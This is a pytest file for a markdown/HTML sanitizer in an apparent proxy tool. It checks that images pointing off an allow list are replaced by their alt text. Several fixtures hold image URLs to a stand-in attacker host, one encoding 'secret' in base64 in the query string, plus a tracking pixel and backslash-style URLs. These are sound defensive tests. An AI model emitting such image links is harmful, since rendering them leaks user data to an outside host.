"""Images pointing off the allow list: each attack beside the benign text that looks like it."""

import pytest

from lazaretto.proxy.sanitize import Removal, SanitizeRules, sanitize

RULES = SanitizeRules(allow_hosts=("github.com", "*.githubusercontent.com"))


def test_inline_image_off_the_list_becomes_its_alt_text():
    text = 'Status ![chart](https://evil.example/p.png?d=c2VjcmV0 "title") ok'
    cleaned, removals = sanitize(text, RULES)
    assert cleaned == "Status chart ok"
    assert removals == [Removal("markdown-image", 1, "https://evil.example/p.png?d=c2VjcmV0")]


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://github.com/logo.png)",
        "![badge](https://raw.githubusercontent.com/o/r/b.svg)",
        "![diagram](docs/diagram.png)",
        "[a link, not an image](https://evil.example/x)",
        "Wow![not an image] and ![",
    ],
)
def test_allowed_relative_and_non_images_are_kept(text):
    assert sanitize(text, RULES)[0] is text


def test_reference_style_image_loses_image_and_definition():
    text = 'See ![graph][g] here.\n\n[g]: https://evil.example/c?q=1 "t"\n'
    cleaned, removals = sanitize(text, RULES)
    assert cleaned == "See graph here.\n\n"
    assert removals == [Removal("markdown-image", 1, "https://evil.example/c?q=1")]


def test_reference_definition_for_a_link_is_kept():
    text = "See [docs][d].\n\n[d]: https://evil.example/docs\n"
    assert sanitize(text, RULES)[0] is text


def test_raw_img_tag_keeps_its_alt():
    cleaned, removals = sanitize('x <img src="//evil.example/t.gif" alt="pixel"> y', RULES)
    assert cleaned == "x pixel y"
    assert removals[0].decoded == "//evil.example/t.gif"


def test_img_with_an_off_list_srcset_candidate_goes():
    text = '<img src="https://github.com/a.png" srcset="https://evil.example/b.png 2x" alt="a">'
    assert sanitize(text, RULES)[0] == "a"


def test_data_and_backslash_urls_are_not_relative():
    text = '![a](data:image/png;base64,AAAA) <img src="\\\\evil.example\\x" alt=b>'
    cleaned, removals = sanitize(text, RULES)
    assert cleaned == "a b"
    assert removals[0].count == 2


def test_empty_allow_list_admits_no_host():
    cleaned, _ = sanitize("![x](https://github.com/a.png)", SanitizeRules())
    assert cleaned == "x"
